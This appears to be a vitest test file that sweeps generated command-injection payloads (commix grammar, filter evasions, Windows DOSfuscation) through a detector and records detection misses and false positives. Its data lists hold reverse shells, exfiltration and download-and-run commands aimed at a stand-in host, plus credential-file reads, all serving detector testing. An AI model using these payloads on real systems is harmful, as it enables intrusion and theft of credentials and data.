// Round 10: a combinatorial command-injection sweep generated from the published grammar of commix (its break-out
// prefixes, separators, suffixes, whitespace substitutions and its classic / eval / time / file-based payload
// templates) and the usual filter-evasion cheat sheets (${IFS}, $IFS$9, {cmd,arg}, quotes and backslashes inside
// words, $@, unset variables, base64 and rev pipes, redirection instead of space; Windows ^ carets, "" splits,
// %VAR:~x,y% substrings, , ; as argument delimiters), written from those tools' documentation, none from the
// development corpus. A sweep of ordinary values of the same shapes (apostrophes, quotes, & and | in titles,
// Markdown backticks, lists and code-like prose) measures false positives. Counts and misses are pinned below.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { createDetector, type Detector } from '../../src/index.js';

let d1: Detector;
let d2: Detector;
beforeAll(async () => { d1 = await createDetector({ paranoia: 1 }); d2 = await createDetector({ paranoia: 2 }); });
afterAll(async () => { await d1.close(); await d2.close(); });

const blocked = (d: Detector, p: string): boolean => d.scan(p, { context: 'query' }).blocked;

// ---- unix commands, with and without arguments (recon, read, sleep/ping timing, download, reverse shells)
export const UNIX = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls', 'pwd', 'sleep 5', 'ping -c 5 127.0.0.1',
  'nslookup x.attacker.test', 'curl http://attacker.test/x', 'nc -e /bin/sh attacker.test 4444', 'echo vulnerable'];
// (more commands, crossed with the prefixes and separators only)
export const UNIX_MORE = ['wget http://attacker.test/s -O /tmp/s', 'cat /etc/shadow', 'ifconfig', 'ps aux', 'rm -rf /tmp/x', 'touch /tmp/pwned',
  'netstat -an', 'head /etc/passwd', 'sh -c id', 'bash -i', 'python -c "import os"', 'perl -e "print 1"', 'hostname', 'env', 'uname', 'ls -la /',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'php -r "system(\'id\');"', 'ruby -e "exit"', 'busybox nc attacker.test 4444 -e sh'];

// ---- commix: prefixes (nothing, a value, a quote that opens or closes one) x separators x commands x suffixes
export const PREFIXES = ['', '1', 'x', '127.0.0.1', "'", '"', "1'", '1"', "x'", 'x"'];
export const SEPARATORS = [';', ' ; ', '|', ' | ', '||', '&', '&&', ' && ', '\n', '%0a', '%0d%0a', '%3b', '%26%26', '`', '$('];
export const SUFFIXES = ['', '#', ' #', "'", '"', ';', '|', '&', '\n'];

function wrap(sep: string, cmd: string): string {
  if (sep === '`') return `\`${cmd}\``;
  if (sep === '$(') return `$(${cmd})`;
  return sep + cmd;
}

export function commixGrid(): string[] {
  const out: string[] = [];
  for (const pre of PREFIXES) for (const sep of SEPARATORS) for (const cmd of UNIX) for (const suf of SUFFIXES) out.push(pre + wrap(sep, cmd) + suf);
  for (const pre of PREFIXES) for (const sep of SEPARATORS) for (const cmd of UNIX_MORE) out.push(pre + wrap(sep, cmd) + (pre.endsWith("'") ? "'" : pre.endsWith('"') ? '"' : ''));
  return [...new Set(out)];
}

// ---- filter evasion: each command rewritten by each obfuscation, after a few separators
const b64 = (s: string): string => Buffer.from(s).toString('base64');
type Obf = (name: string, args: string) => string | null;
export const OBFUSCATIONS: Array<[string, Obf]> = [
  ['plain', (n, a) => n + (a ? ' ' + a : '')],
  ['${IFS}', (n, a) => (a ? `${n}\${IFS}${a.replaceAll(' ', '${IFS}')}` : null)],
  ['$IFS$9', (n, a) => (a ? `${n}$IFS$9${a.replaceAll(' ', '$IFS$9')}` : null)],
  ['tab', (n, a) => (a ? `${n}\t${a.replaceAll(' ', '\t')}` : null)],
  ['%09', (n, a) => (a ? `${n}%09${a.replaceAll(' ', '%09')}` : null)],
  ['brace', (n, a) => (a && !/["' ]{2}|"/.test(a) ? `{${n},${a.replaceAll(' ', ',')}}` : null)],
  ['redirect', (n, a) => (a.startsWith('/') && !a.includes(' ') ? `${n}<${a}` : null)],
  ["w'h'o", (n, a) => (n.length >= 2 ? `${n[0]}'${n[1]}'${n.slice(2)}` + (a ? ' ' + a : '') : null)],
  ['w"h"o', (n, a) => (n.length >= 2 ? `${n[0]}"${n[1]}"${n.slice(2)}` + (a ? ' ' + a : '') : null)],
  ['w\\ho', (n, a) => (n.length >= 2 ? `${n[0]}\\${n.slice(1)}` + (a ? ' ' + a : '') : null)],
  ['$@', (n, a) => (n.length >= 2 ? `${n[0]}$@${n.slice(1)}` + (a ? ' ' + a : '') : null)],
  ['${u}', (n, a) => (n.length >= 2 ? `${n.slice(0, -1)}\${u}${n.slice(-1)}` + (a ? ' ' + a : '') : null)],
  ['$u', (n, a) => `${n}$u` + (a ? ' ' + a : '')],
  ['/usr/bin', (n, a) => `/usr/bin/${n}` + (a ? ' ' + a : '')],
  ['base64', (n, a) => `echo ${b64(n + (a ? ' ' + a : ''))}|base64 -d|sh`],
  ['rev', (n, a) => `echo '${[...(n + (a ? ' ' + a : ''))].reverse().join('')}'|rev|bash`],
  ['$(printf)', (n, a) => `$(printf '${[...n].map((ch) => '\\x' + ch.charCodeAt(0).toString(16)).join('')}')` + (a ? ' ' + a : '')],
];
const OBF_CMDS: Array<[string, string]> = [['id', ''], ['whoami', ''], ['uname', '-a'], ['cat', '/etc/passwd'], ['ls', '-la'], ['sleep', '5'],
  ['ping', '-c 5 127.0.0.1'], ['nc', '-e /bin/sh attacker.test 4444'], ['wget', 'http://attacker.test/s'], ['curl', 'attacker.test/x'],
  ['head', '/etc/shadow'], ['nslookup', 'x.attacker.test'], ['echo', 'vulnerable'], ['pwd', '']];
const OBF_SEPS = ['', ';', '|', '&&', '%0a', "';", '"|', '`', '$(', "'`", '"$('];

export function obfuscationGrid(): string[] {
  const out: string[] = [];
  for (const [n, a] of OBF_CMDS) for (const [, f] of OBFUSCATIONS) {
    const body = f(n, a);
    if (body === null) continue;
    for (const s of OBF_SEPS) {
      if (s.endsWith('`')) out.push(`${s}${body}\``);
      else if (s.endsWith('$(')) out.push(`${s}${body})`);
      else out.push(s + body);
    }
  }
  return [...new Set(out)];
}

// ---- Windows (cmd.exe, PowerShell): separators x commands x caret / quote / substring / delimiter obfuscations
const WIN: Array<[string, string]> = [['whoami', ''], ['dir', 'c:\\'], ['type', 'C:\\Windows\\win.ini'], ['ipconfig', '/all'], ['net', 'user'],
  ['systeminfo', ''], ['ping', '-n 5 127.0.0.1'], ['timeout', '/t 5'], ['tasklist', ''], ['cmd', '/c whoami'], ['powershell', '-c Get-Process'],
  ['certutil', '-urlcache -f http://attacker.test/a.exe a.exe'], ['nslookup', 'x.attacker.test'], ['ver', ''], ['hostname', ''], ['net', 'localgroup administrators']];
const WIN_OBF: Array<(n: string, a: string) => string> = [
  (n, a) => n + (a ? ' ' + a : ''),
  (n, a) => [...n].join('^') + (a ? ' ' + a : ''),
  (n, a) => `${n.slice(0, 1)}""${n.slice(1)}` + (a ? ' ' + a : ''),
  (n, a) => n + (a ? '%ProgramFiles:~10,1%' + a.replaceAll(' ', '%ProgramFiles:~10,1%') : ''),
  (n, a) => n + (a ? ',' + a.replaceAll(' ', ',') : ''),
];
const WIN_PREFIXES = ['', '1', '127.0.0.1', '"', "'"];
const WIN_SEPS = ['&', '&&', '|', '||', '%0a', '%26', '\r\n'];

export function windowsGrid(): string[] {
  const out: string[] = [];
  for (const pre of WIN_PREFIXES) for (const sep of WIN_SEPS) for (const [n, a] of WIN) for (const f of WIN_OBF) out.push(pre + sep + f(n, a));
  return [...new Set(out)];
}

// ---- DOSfuscation: delimiters cmd.exe skips before a command name (, ;) after its separators (written after the comma fix)
export function delimiterGrid(): string[] {
  const out: string[] = [];
  for (const lead of [',', ',;,', ';,', ', ', ',,']) for (const sep of ['&', '|', '&&', '||', '%0a', '1&', '"&']) for (const [n, a] of WIN) {
    out.push(sep + lead + n + (a ? ' ' + a : ''));
  }
  return [...new Set(out)];
}

// ---- commix's technique templates (classic echo of an arithmetic tag, eval-based, time-based if/else, file-based)
// with its whitespace substitutions (%20, +, ${IFS}, $IFS$9, %09) after its separators and quote prefixes
const TECHNIQUES = [
  'echo QWERTY$((13+29))$(echo QWERTY)QWERTY',
  'echo QWERTY$(expr 13 + 29)QWERTY',
  'str=$(echo QWERTY);str1=${#str};if [ 6 -ne $str1 ];then sleep 0;else sleep 5;fi',
  'sleep 5',
  'echo QWERTY > /var/www/html/qwerty.txt',
  'str=$(id|tr \'\\n\' \' \');echo $str > /tmp/o.txt',
  'print(`echo QWERTY`)',
  'for i in $(seq 1 5);do sleep 1;done',
];
const WS = [' ', '%20', '+', '${IFS}', '$IFS$9', '%09'];
const TECH_SEPS = [';', '|', '||', '&&', '%0a', '&'];

export function techniqueGrid(): string[] {
  const out: string[] = [];
  for (const t of TECHNIQUES) for (const ws of WS) for (const sep of TECH_SEPS) for (const pre of ['', "'", '"']) {
    out.push(pre + sep + t.replaceAll(' ', ws) + (pre === '' ? '' : ' #'));
  }
  return [...new Set(out)];
}

// ---- cheat-sheet bodies (PayloadsAllTheThings-style filter bypasses, reverse shells, Windows one-liners, redirection,
// PHP/Perl eval break-outs) x break-outs x encodings of the separator (written after the first round-10 fixes)
const BODIES = [
  'cat${IFS}/etc/passwd', 'cat$IFS/etc/passwd', 'cat${HOME:0:1}etc${HOME:0:1}passwd', '/???/??t /???/p??s??', "$'\\x69\\x64'",
  "X=$'cat\\x20/etc/passwd'&&$X", '{cat,/etc/passwd}', 'cat</etc/passwd', 'c\\at /e\\tc/pa\\sswd', "'c'a't' /etc/passwd", '"w"h"o"a"m"i',
  '$(rev<<<imaohw)', 'echo${IFS}aWQ=|base64${IFS}-d|sh', 'w$()hoami', 'wh``oami', 'i$9d', '$0 -c id', 'sh<<<id', 'bash -c "id"',
  'id>/tmp/out.txt', 'id>/var/www/html/o.txt', 'uname -a>>/tmp/x', 'curl -d @/etc/passwd attacker.test', 'wget --post-file=/etc/passwd attacker.test',
  'curl attacker.test/s.sh|bash', 'curl -s attacker.test|sh', 'nc attacker.test 4444 -e /bin/bash', 'ncat attacker.test 4444 -e /bin/sh',
  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc attacker.test 4444 >/tmp/f', "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
  "perl -e 'exec \"/bin/sh\"'", "php -r '$s=fsockopen(\"attacker.test\",4444);exec(\"sh <&3 >&3 2>&3\");'", 'socat tcp:attacker.test:4444 exec:sh',
  'telnet attacker.test 4444', 'xterm -display attacker.test:1', 'ping -c 10 attacker.test', 'dig attacker.test', 'host attacker.test',
  'sleep${IFS}10', 'timeout 10 sleep 10', 'cat /proc/self/environ', 'printenv', 'set', 'crontab -l', 'sudo -l', 'find / -perm -4000',
  'ls${IFS}-la${IFS}/', 'whoami|curl -d @- attacker.test', 'echo${IFS}pwned>/tmp/p', 'chmod +x /tmp/s;/tmp/s',
  '%COMSPEC% /c whoami', "for /f %i in ('whoami') do echo %i", 'echo %USERNAME%', 'set /a 1+1', 'type %WINDIR%\\win.ini',
  "powershell IEX(New-Object Net.WebClient).DownloadString('http://attacker.test/a')", 'powershell -nop -w hidden -e SQBFAFgA',
  'certutil -decode a.b64 a.exe', 'bitsadmin /transfer j http://attacker.test/a.exe C:\\a.exe', 'mshta http://attacker.test/a.hta',
  'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"', 'wmic process call create calc', 'reg query HKLM\\SAM', 'net user hacker P@ss /add',
  'start calc', 'ping -n 10 127.0.0.1', 'timeout /t 10', 'dir /s c:\\', 'c:\\windows\\system32\\cmd.exe /c ver',
];
const BREAKOUTS: Array<(b: string) => string> = [
  (b) => `;${b}`, (b) => `|${b}`, (b) => `&&${b}`, (b) => `%0a${b}`, (b) => `%250a${b}`, (b) => `%253b${b}`, (b) => `\`${b}\``, (b) => `$(${b})`,
  (b) => `';${b};'`, (b) => `";${b};"`, (b) => `');${b};#`, (b) => `");${b} #`, (b) => `x\`${b}\``, (b) => `a@b.test|${b}`, (b) => `file.txt;${b}`,
  (b) => `1%0d%0a${b}`, (b) => `&${b}&`, (b) => `||${b}||`, (b) => `'|${b}|'`,
];

export function cheatSheetGrid(): string[] {
  const out: string[] = [];
  for (const b of BODIES) for (const f of BREAKOUTS) out.push(f(b));
  return [...new Set(out)];
}

// ---- empty expansions and quoting spliced into every inner position of a command name (written after the third fix)
const EMPTIES = ['$@', '${@}', '$*', '${*}', '$9', '${9}', '$u', '${u}', "''", '""', '\\', '$()', '``', '$!'];
const SPLICE_CMDS: Array<[string, string]> = [['id', ''], ['whoami', ''], ['uname', '-a'], ['cat', '/etc/passwd'], ['wget', 'attacker.test/s'],
  ['nc', '-e sh attacker.test 4444'], ['sleep', '5'], ['ifconfig', '']];
const SPLICE_SEPS = [';', '|', '&&', '%0a', '`', '$(', "';", '"|'];

export function spliceGrid(): string[] {
  const out: string[] = [];
  for (const [n, a] of SPLICE_CMDS) for (let i = 1; i < n.length; i++) for (const e of EMPTIES) for (const sep of SPLICE_SEPS) {
    const body = n.slice(0, i) + e + n.slice(i) + (a ? ' ' + a : '');
    out.push(sep === '`' ? `\`${body}\`` : sep === '$(' ? `$(${body})` : sep + body);
  }
  return [...new Set(out)];
}

// ---- ordinary values of the same shapes
const WORDS = ['sleep', 'date', 'time', 'type', 'sort', 'find', 'head', 'tail', 'more', 'less', 'cat', 'dog', 'echo', 'touch', 'test',
  'print', 'make', 'kill', 'wait', 'join', 'split', 'name', 'user', 'who', 'which', 'file', 'free', 'top', 'watch', 'yes', 'true', 'set', 'host', 'link'];
// (the other slots take ordinary nouns: two command words side by side, "sort | tail", "Date; sort", are pipelines and lists
// of commands, not ordinary values)
const NOUNS = ['price', 'color', 'size', 'notes', 'garden', 'coffee', 'music', 'family', 'travel', 'status', 'amount', 'summer', 'email'];
const cap = (w: string): string => w[0]!.toUpperCase() + w.slice(1);
const BENIGN_SHAPES: Array<(a: string, b: string, c: string) => string> = [
  (a, b) => `${cap(a)} & ${cap(b)}`,
  (a, b, c) => `${cap(a)} | ${cap(b)} | ${cap(c)}`,
  (a) => `It's ${a} time`,
  (a) => `O'Neil's ${a}`,
  (a, b) => `"${cap(a)}" and "${b}"`,
  (a) => `the \`${a}\` field is optional`,
  (a, b, c) => `${cap(a)}; ${b}; ${c}`,
  (a, b) => `${a}/${b}`,
  (a, b) => `Q&A: ${a} or ${b}?`,
  (a) => `Rock 'n' ${cap(a)}`,
  (a, b) => `${a}-${b}`,
  (a, b) => `'${a}' or '${b}'`,
  (a) => `Price: $5 & up (${a})`,
  (a) => `We'll ${a} at 5`,
  (a, b, c) => `${cap(a)}, ${b} && ${c}`,
  (a, b) => `${cap(a)}\n${cap(b)}`,
  (a, b) => `"${a}'s ${b}"`,
  (a, b) => `${cap(a)} & ${b} (2 pack)`,
  (a, b) => `Tom's ${a} & ${b}`,
  (a, b) => `see \`${a}\` and \`${b}\` below`,
  (a) => `"${cap(a)}"`,
  (a) => `'${a}'`,
  (a, b) => `${a} | ${b}`,
  (a) => `#${a} #tips`,
  (a, b) => `${cap(a)} (and ${b})`,
  (a, b) => `Don't ${a}; ${b} instead`,
  (a, b) => `${cap(a)}: 5 min | ${cap(b)}: 10 min`,
  (a, b) => `"${a}", "${b}"`,
  (a) => `I'd ${a} it 5/5`,
  (a, b) => `${a}=${b}&page=2`,
];

export function benignGrid(): string[] {
  const out: string[] = [];
  for (let i = 0; i < WORDS.length; i++) for (const shape of BENIGN_SHAPES) {
    out.push(shape(WORDS[i]!, NOUNS[i % NOUNS.length]!, NOUNS[(i + 5) % NOUNS.length]!));
  }
  return [...new Set(out)];
}

// ---- ordinary values next to the round-10 changes (quotes around code spans, commas after a word after & or |, $ and a
// digit glued to letters, backticks glued to words), written during the fixes
export const BENIGN_NEAR = [
  "'`date`'", '"`type`" is required', "Use '`ls`' to list", "the '`sort`' option", '"`npm test`" runs the suite', "'`make`' builds it",
  'Tom & Jerry, Inc.', 'Q&A, FAQ', 'R&D,Sales,Marketing', 'x|sort,uniq', 'Name|Date,Time|Email', 'Salt & Pepper,Oil', 'Size|Sort,/asc',
  'Rating|Sort,-price', 'Gross|Net,Tax', 'A|Echo,B', 'AT&T,Verizon,T-Mobile', 'cats|dogs,birds', 'S&P 500|Dir,Notes', 'page=2&sort,asc',
  'Price $9.99', 'US$5bn deal', 'Save $5off today', 'Q3 $9M revenue', 'a$1b', 'cost $5 ls', 'it costs $9d', 'Pay $2k now',
  'hello`world`', 'x`y`z', 'word`"quoted"`', "it's `date`", 'see `set` and `get`', 'the `start` event', 'Start date; End date', '&&set up',
  'Ready; start here', 'Duration | Start date | End date', '"`true`" or "`false`"',
];

function measure(d: Detector, all: string[], wantBlocked: boolean): string[] {
  return all.filter((p) => blocked(d, p) !== wantBlocked);
}

describe('cmdi sweeps (generated, round 10)', () => {
  // [name, generator, key of COUNTS and MISSES]
  const grids: Array<[string, () => string[], keyof typeof MISSES]> = [
    ['commix prefixes x separators x commands x suffixes', commixGrid, 'commix'],
    ['filter evasions x commands x separators', obfuscationGrid, 'obf'],
    ['Windows separators x commands x obfuscations', windowsGrid, 'windows'],
    ['cmd.exe delimiters before the command x separators x commands', delimiterGrid, 'delim'],
    ['commix technique templates x whitespace x separators x quotes', techniqueGrid, 'technique'],
    ['cheat-sheet bodies x break-outs', cheatSheetGrid, 'cheat'],
    ['empty expansions and quotes spliced into command names x separators', spliceGrid, 'splice'],
  ];
  for (const [name, grid, key] of grids) {
    it(name, () => {
      const all = grid();
      expect(all.length).toBe(COUNTS[key]);
      const m = measure(d1, all, true);
      expect(m.length, `missed:\n${m.slice(0, 200).map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(MISSES[key]);
    });
  }
  it('ordinary values next to the round-10 changes', () => {
    expect(BENIGN_NEAR.length).toBe(COUNTS.near);
    const f1 = measure(d1, BENIGN_NEAR, false);
    expect(f1.length, `flagged:\n${f1.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.near1);
    const f2 = measure(d2, BENIGN_NEAR, false);
    expect(f2.length, `flagged p2:\n${f2.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.near2);
  });
  it('ordinary values of the same shapes (paranoia 1 and 2)', () => {
    const all = benignGrid();
    expect(all.length).toBe(COUNTS.benign);
    const f1 = measure(d1, all, false);
    expect(f1.length, `flagged:\n${f1.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.p1);
    const f2 = measure(d2, all, false);
    expect(f2.length, `flagged p2:\n${f2.map((p) => JSON.stringify(p)).join('\n')}`).toBeLessThanOrEqual(BENIGN_FLAGGED.p2);
  });
});

// Round 10 sweep: commix grid 18,702/19,200 when written, 18,770/19,200 now; evasions 2,250/2,321 when written, 2,294/2,321
// now; Windows 2,100/2,450 when written, 2,345/2,450 now; commix techniques 864/864; ordinary values 2/1,020 flagged at
// paranoia 1 and 18/1,020 at paranoia 2, when written and now. The misses, by class:
// - 424 commix: a no-argument command with '#' glued to it (;id# |pwd# &&uname#): the shell starts a comment only at the
//   start of a word, so the command word is `id#` (not found); cmd.exe has no '#' comment. Cannot work: left alone.
// - 74 commix, 44 evasions when written: a quote opening the value, then a backtick substitution ('`sleep 5`, "`pwd`,
//   '`s'l'eep 5`). Inside "..." the substitution runs whatever quote precedes it (echo "'`id`'"): genuine, fixed (the shell
//   word restarts at the backtick, as with no quote before it; '`date`' alone stays a quoted code span, as `date` does).
//   6 left: `ls`# `pwd`# ('`ls`#, "`pwd`#): a file tool alone in a span with '#' glued after it, read as prose like `ls`.
// - 350 Windows when written: a comma between the command and its arguments after & | or a newline (&dir,c:\ |net,user):
//   cmd.exe reads , ; = there as spaces. Fixed for a path or drive after the comma (any command) and an option (a strong
//   command: &ping,-n,5 &cmd,/c,whoami). 105 left: |net,user and &nslookup,x.attacker.test, a plain word after the comma:
//   programs other than cmd's own get ",user" as their argument (the C runtime splits on spaces only), and "Gross|Net,Tax",
//   "A|Echo,B" are lists of words.
// - 27 evasions: a command with no separator at all ("id", "sleep 5", "echo vulnerable", "curl attacker.test/x", "pwd$u"):
//   the value is a command only where the whole field is run as one; these words alone are ordinary text. Left alone.
// - cheat-sheet bodies x break-outs (written after the first two fixes): 1,269/1,311 when written (the same on the pre-round
//   build), 1,289/1,311 now. Fixed: i$9d (a positional parameter is one digit: the rest of the word goes on, 21 payloads) and
//   x`"w"hoami`, x`$0 -c id`, x`$'\x69\x64'` (a quote, '$' or '\' right after a backtick glued to a word starts the
//   substitution's word, as a letter did). 22 left: start calc (21: start and a weak word is also "start date", "; start
//   here"; start calc.exe and start with a strong program are caught), `wh``oami` (a backtick inside backticks closes the
//   substitution: `wh` and `oami` run, nothing), &&set and `set` (set alone is a field name; set /a 1+1 is caught).
// - empty expansions spliced into command names (written after the $9 fix, before the ${@} one): 2,331/3,024 on the
//   pre-round build, 2,835/3,024 now (fixed: i$9d 168, i${@}d and i${*}d 336: ${ } around a special parameter is read like
//   $@). 189 left, none can work: 168 i$ud wh$uoami (the variable's name takes the letters after it, $ud: the command is
//   `i`) and 21 `w``hoami` (a backtick inside backticks closes the substitution).
// - cmd.exe delimiters before the command (&,whoami %0a,;,ver; written after the first form of that fix): 49/560 on the
//   pre-round build, 427/560 when written (after & | ; only), 560/560 now (also after a newline or another comma).
// - not fixed, outside the sweeps: &C:\Windows\System32\whoami (system32 as a bin directory would flag CRS's benign
//   C:\Windows\System32\ls; the .exe form is caught), &=whoami (x|=id, mask&=id are compound assignments in code).
// - fixed outside the sweeps: a strong command word given unquoted to system( passthru( popen( ({${system(id)}}: PHP before 8
//   reads a bare name as its string); subprocess.call('id',shell=True) and phpinfo(); are left (code, no command line).
//   And ssh's -oProxyCommand= given a command (argument injection, judged like system(); --use-compress-program=id and
//   --checkpoint-action=exec=id are left: their last word, program= action=, names nothing by itself.
// - ordinary values next to the round-10 changes (39, written during the fixes): 2/39 at paranoia 1 and 2 on the pre-round
//   build and when written ("Use '`ls`' to list", "`true`" or "`false`"), 0/39 now: a quote glued to the closing backtick
//   of a span standing apart lets the words after it decide, as they do after `ls` ('`cat a.txt`' prints it).
// - ordinary values flagged, 2/1,020 when written: "Touch; price; coffee", "Make; notes; travel" (touch and make alone
//   opening a list of words, run as commands); 1/1,020 now: touch, paste, copy, move, cp, mv, mkdir, rmdir, rm, ln, chmod,
//   chown alone only print their usage ("Cut; Copy; Paste", "Malé | MV"); make alone builds a Makefile's default target.
//   At paranoia 2 18/1,020 when written, 17/1,020 now ("'cat'", "\"Echo\"", "touch-price", "the `print` field is optional"...).
const COUNTS = { commix: 19200, obf: 2321, windows: 2450, technique: 864, cheat: 1311, splice: 3024, delim: 560, benign: 1020, near: 39 };
const MISSES = { commix: 430, obf: 27, windows: 105, technique: 0, cheat: 22, splice: 189, delim: 0 };
const BENIGN_FLAGGED = { p1: 1, p2: 17, near1: 0, near2: 0 };
